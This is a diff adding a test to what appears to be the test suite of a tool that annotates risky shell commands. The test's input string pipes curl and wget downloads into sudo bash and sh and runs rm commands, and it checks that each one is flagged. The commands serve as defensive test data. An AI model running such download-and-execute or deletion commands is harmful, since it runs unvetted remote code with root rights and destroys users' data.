@@ -58,6 +58,13 @@ def test_what_cannot_be_undone_is_marked(text, told):
         assert any(told in line.told for line in marked)
 
 
+def test_a_download_that_is_run_is_told_once_for_its_pipeline():
+    notes = shell_block("curl -s https://x.io/i.sh | sudo bash; rm a | rm b; wget -qO- y | sh").notes
+    downloads = [note for note in notes if note.startswith("runs what it downloads")]
+    assert downloads == ["runs what it downloads: curl -s https://x.io/i.sh", "runs what it downloads: wget -qO- y"]
+    assert {"destroys: rm a", "destroys: rm b"} <= {*notes}
+
+
 def test_what_is_not_understood_is_told():
     assert any(note.startswith("not understood") for note in shell_block("eval $X").notes)
 
